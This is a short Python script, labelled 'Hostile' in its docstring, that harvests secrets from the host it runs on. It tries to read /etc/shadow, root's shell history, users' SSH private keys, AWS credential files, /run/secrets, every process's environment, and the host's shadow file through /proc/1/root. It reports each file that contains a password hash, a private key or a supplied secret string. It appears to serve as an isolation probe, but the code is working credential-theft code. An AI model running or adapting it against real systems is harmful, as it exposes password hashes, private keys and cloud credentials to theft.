"""Hostile: collect the host's passwords, keys and environment."""

import glob
import os
import sys

WANTED = ["/etc/shadow", "/root/.bash_history", "/root/.ssh/*",
          "/home/*/.ssh/*", "/home/*/.aws/credentials",
          "/var/lib/*", "/run/secrets/*", "/proc/*/environ",
          "/proc/1/root/etc/shadow", "/proc/sys/kernel/core_pattern"]
# What a password hash, a private key or our caller's secret looks like.
SIGNS = ["$6$", "$y$", "PRIVATE KEY", os.environ.get("LOOK_FOR", "?" * 9)]

loot, tried = [], 0
for pattern in WANTED:
    for path in glob.glob(pattern) or [pattern]:
        tried += 1
        try:
            with open(path, "rb") as stream:
                text = stream.read(65536).decode("utf-8", "replace")
        except OSError as why:
            print(f"{path}: {why.strerror}")
            continue
        own = path == f"/proc/{os.getpid()}/environ"
        if not own and any(sign in text for sign in SIGNS):
            loot.append(path)
            print(f"{path}: GOT IT")

others = [key for key in os.environ if "SECRET" in key]
print(f"variables of the caller: {others or 'none'}")
print(f"{tried} places tried, {len(loot) + len(others)} secrets found")
sys.exit(0 if loot or others else 1)
